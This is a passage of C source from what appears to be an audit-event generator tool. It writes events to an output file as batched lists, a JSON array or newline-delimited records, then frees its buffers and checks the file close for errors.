                if (++in_list == batch) {
                    fputs("]}\n", out);
                    in_list = 0;
                }
            } else if (fmt == 3) {
                if (written > 0) {
                    fputs(",\n", out);
                }
                fwrite(ev.p, 1, ev.len, out);
            } else {
                fwrite(ev.p, 1, ev.len, out);
                fputc('\n', out);
            }
            written++;
        }
    }
    if (fmt == 2 && in_list > 0) {
        fputs("]}\n", out);
    }
    if (fmt == 3) {
        fputs("\n]\n", out);
    }
    free(ev.p);
    free(pbuf.p);
    if (fclose(out) != 0) {
        perror("gen-audit");
        return 1;
    }
    return 0;
}
